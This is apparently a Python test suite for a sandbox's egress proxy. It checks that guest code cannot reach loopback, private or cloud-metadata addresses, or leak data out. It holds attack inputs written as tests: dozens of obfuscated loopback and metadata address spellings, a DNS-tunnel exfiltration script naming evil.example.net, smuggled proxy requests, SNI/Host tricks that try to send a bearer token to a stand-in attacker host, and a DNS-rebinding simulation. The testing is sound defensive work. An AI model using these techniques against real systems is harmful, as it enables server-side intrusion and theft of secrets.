"""Attempts through the egress proxy, which is the only way out of a machine: no spelling of an inside address gets in."""

from __future__ import annotations

import asyncio
import http.server
import ipaddress
import json

from pyro_mcp.network.authority import Authority
from pyro_mcp.network.policy import IPAddress, Refused
from pyro_mcp.network.resolve import checked_addresses, strict_check
from tests.isolation.attempts import ATTEMPTS, Arena, Attempt, attempt
from tests.tls import serving

HOST = "host.pyro.internal"

ADDRESSES = (
    *("127.0.0.1", "localhost", "127.1", "0.0.0.0", "2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "[::1]"),
    *("[::]", "[::ffff:127.0.0.1]", "[::ffff:0:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"),
    *("[2001::7f00:1]", "[2001:2::1]", "[2001:10::1]", "[2001:20::1]", "[5f00::1]", "[100:0:0:1::1]", "[fe80::1]"),
    *("[fc00::1]", "[ff02::1]", "[::5efe:127.0.0.1]", "169.254.169.254", "metadata.google.internal", "10.0.0.1"),
    *("172.16.0.1", "192.168.0.1", "100.64.0.1", "192.88.99.1", "198.18.0.1", "192.0.0.1", "224.0.0.1", "240.0.0.1"),
    *("255.255.255.255", "localhost.", "LOCALHOST", "127.0.0.1.", "this computer"),
)
SHORT = {
    "127.0.0.1",
    "localhost",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "2130706433",
    "169.254.169.254",
    "10.0.0.1",
    "this computer",
}
ASK = """
import os, re, socket
found = re.match(r"http://([^:/]+):(\\d+)", os.environ.get("http_proxy", "http://127.0.0.1:3128"))
host, port = {host!r}, {port}
for head in (f"CONNECT {{host}}:{{port}} HTTP/1.1\\r\\nHost: {{host}}:{{port}}\\r\\n\\r\\n",
             f"GET http://{{host}}:{{port}}/ HTTP/1.1\\r\\nHost: {{host}}:{{port}}\\r\\nConnection: close\\r\\n\\r\\n"):
    try:
        s = socket.create_connection((found[1], int(found[2])), 10); s.settimeout(15); s.sendall(head.encode())
        print("ANSWER", s.recv(200).split(b"\\r\\n")[0].decode("latin-1"))
    except OSError as e: print("ANSWER none", e)
"""


def _add(address: str) -> None:
    def make(arena: Arena) -> str:
        host = (arena.baits.addresses() or ["127.0.0.1"])[-1] if address == "this computer" else address
        arena.pyro.write_workspace_file(arena.online, "ask.py", ASK.format(host=host, port=arena.baits.port))
        said = arena.inside("python3 /workspace/ask.py 2>&1", workspace=arena.online, seconds=45)
        arena.holds(said)
        answers = [line.partition(" ")[2] for line in said.splitlines() if line.startswith("ANSWER")]
        assert len(answers) == 2, said
        assert all(" 403" in answer or " 400" in answer for answer in answers), answers
        told = [
            event
            for event in arena.pyro.history_workspace(arena.online, limit=1000).events
            if event.operation == "egress" and (event.details or {}).get("verdict") == "allowed"
        ]
        assert not told, json.dumps([event.details for event in told])
        return "; ".join(answers)[:110]

    ATTEMPTS.append(Attempt("egress", f"{address} through the proxy", make, address in SHORT))


for _address in ADDRESSES:
    _add(_address)


def _online(arena: Arena, script: str) -> str:
    arena.pyro.write_workspace_file(arena.online, "try.py", script)
    said = arena.inside("python3 /workspace/try.py 2>&1", workspace=arena.online, seconds=45)
    arena.holds(said)
    return said


@attempt("egress", "data in the names that are asked for", engines=("gvisor",))
def _dns_tunnel(arena: Arena) -> str:
    """Every kind of record, by UDP and TCP, by the machine's resolver and straight to one outside."""
    before = len(_egress_events(arena))
    said = _online(
        arena,
        """
import socket, struct
def query(kind):
    name = b"".join(bytes([len(p)]) + p for p in (b"x" * 60, b"secret", b"evil", b"example", b"net")) + b"\\0"
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack(">HH", kind, 1)
for kind in (1, 16, 10, 65, 28, 15):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(9); u.connect(("127.0.0.1", 53)); u.send(query(kind))
    t = socket.create_connection(("127.0.0.1", 53), 9); t.sendall(struct.pack(">H", len(query(kind))) + query(kind))
    for answer in (u.recv(4096), t.recv(4096)[2:]):
        print("ANSWER", kind, struct.unpack(">H", answer[6:8])[0])
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(3)
    try: s.connect(("9.9.9.9", 53)); s.send(query(16)); print("OUT", s.recv(100))
    except OSError as e: print("SHUT", e)
""",
    )
    found = [line.split() for line in said.splitlines() if line.startswith("ANSWER")]
    assert len(found) == 12 and all(count == "0" for _, kind, count in found if kind != "1"), said
    assert said.count("SHUT") == 2 and "OUT" not in said, said
    assert len(_egress_events(arena)) == before, "a name that is asked for reached this computer's side"
    return "answered inside; nothing left"


@attempt("egress", "the redirect's port, spoken to by itself", engines=("gvisor",))
def _redirect_port(arena: Arena) -> str:
    """Neither the agent's words to the daemon, nor TLS, nor an address of names that nobody asked for gets through it."""
    before = len(_egress_events(arena))
    said = _online(
        arena,
        f"""
import socket
for host, data in (("127.0.0.1", b"CONNECT 127.0.0.1:{arena.baits.port} HTTP/1.1\\r\\n\\r\\n"),
                   ("127.0.0.1", b"RESOLVE x.example.net HTTP/1.1\\r\\n\\r\\n"),
                   ("127.0.0.1", b"SSH-AGENT keys HTTP/1.1\\r\\n\\r\\n"),
                   ("127.0.0.1", b"\\x16\\x03\\x01"), ("127.65.200.1", b"GET / HTTP/1.0\\r\\n\\r\\n")):
    s = socket.socket(); s.settimeout(9)
    try: s.connect((host, 3129)); s.sendall(data); print("GOT", s.recv(100))
    except OSError as e: print("SHUT", type(e).__name__)
""",
    )
    assert said.count("SHUT ConnectionRe") == 5, said
    assert len(_egress_events(arena)) == before
    return "reset"


@attempt("egress", "SNI and Host that name another than the connection")
def _disagreeing(arena: Arena) -> str:
    """To a host with a secret: its value goes to nobody but that host, whatever the guest says it is."""
    asked: list[str] = []

    class Server(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(str(self.headers))
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with serving(Server, Authority.create("nobody trusts it"), HOST) as port:
        made = arena.pyro.create_workspace(
            network_policy="egress",
            allow_domains=["none"],
            allow_host_ports=[str(port)],
            secrets={"TOKEN": arena.baits.token},
            secret_hosts={"TOKEN": HOST},
        )
        script = f"""
import socket, ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
for sni in ("{HOST}", "evil.example.net", "localhost"):
    for host in ("{HOST}", "evil.example.net", "{HOST}@evil.example.net", "evil.example.net:{port}"):
        try:
            s = socket.create_connection(("127.0.0.1", 3128), 20); s.settimeout(20)
            s.sendall(b"CONNECT {HOST}:{port} HTTP/1.1\\r\\n\\r\\n"); print(s.recv(999)[:12])
            t = context.wrap_socket(s, server_hostname=sni)
            t.sendall(f"GET / HTTP/1.1\\r\\nHost: {{host}}\\r\\nAuthorization: Bearer ".encode()
                      + __import__("os").environ["T"].encode() + b"\\r\\n\\r\\n")
            print(t.recv(999)[:12])
        except OSError as e: print("SHUT", type(e).__name__)
"""
        arena.pyro.write_workspace_file(made.id, "try.py", script)
        said = arena.pyro.exec_workspace(
            made.id, "python3 /workspace/try.py", secret_env={"T": "TOKEN"}, timeout_seconds=60, wait_seconds=50
        )
        arena.pyro.delete_workspace(made.id)
    assert not any(arena.baits.token in text for text in asked), "a server that does not prove itself got the value"
    assert said.stdout.count("SHUT") + said.stdout.count("502") + said.stdout.count("421") >= 12, said
    return "refused before the value"


@attempt("egress", "a name that resolves to this computer after it was checked")
def _rebinding(arena: Arena) -> str:
    """The address that was checked is the one connected to: a name that changes its mind in between is asked once."""
    asked: list[str] = []
    answers = iter(["93.184.215.14", "127.0.0.1", "127.0.0.1"])

    async def resolver(host: str, port: int) -> list[IPAddress]:
        asked.append(host)
        return [ipaddress.ip_address(next(answers))]

    async def play() -> list[IPAddress]:
        first = await checked_addresses("rebind.example.net", arena.baits.port, resolver, strict_check)
        try:
            await checked_addresses("rebind.example.net", arena.baits.port, resolver, strict_check)
        except Refused:
            return first
        raise AssertionError("the second answer is this computer")

    assert [str(each) for each in asyncio.run(play())] == ["93.184.215.14"] and len(asked) == 2
    return "each connection resolves once, and connects to what was checked"


def _egress_events(arena: Arena) -> list[object]:
    events = arena.pyro.history_workspace(arena.online, limit=1000).events
    return [event for event in events if event.operation == "egress"]
